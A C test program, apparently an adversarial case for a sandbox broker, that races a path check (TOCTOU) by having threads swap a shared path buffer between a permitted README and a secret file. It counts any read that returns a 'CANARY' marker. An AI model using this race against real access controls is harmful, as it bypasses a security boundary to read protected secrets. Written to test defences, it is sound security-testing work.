// technique: a sibling thread rewrites the path buffer between the broker's read and the open (TOCTOU)
// timeout: 60
#include "adv.h"
#include <pthread.h>
static char path[4096];
static char good[4096], bad[4096];
static volatile int stop;
static void *flip(void *a) {
	while (!stop) { memcpy(path, bad, sizeof path); memcpy(path, good, sizeof path); }
	return a;
}
int main(void) {
	snprintf(good, sizeof good, "%s/README.md", adv("PROJECT"));
	snprintf(bad, sizeof bad, "%s", adv("SECRET"));
	memcpy(path, good, sizeof path);
	pthread_t t[2];
	for (int i = 0; i < 2; i++) pthread_create(&t[i], 0, flip, 0);
	int got = 0;
	for (int i = 0; i < 20000 && !got; i++) {
		int fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
		if (fd < 0) continue;
		char buf[256];
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n > 0) { buf[n] = 0; if (strstr(buf, "CANARY")) { printf("race won: %s\n", buf); got = 1; } }
	}
	stop = 1;
	for (int i = 0; i < 2; i++) pthread_join(t[i], 0);
	printf("secret reads: %d\n", got);
	return 0;
}
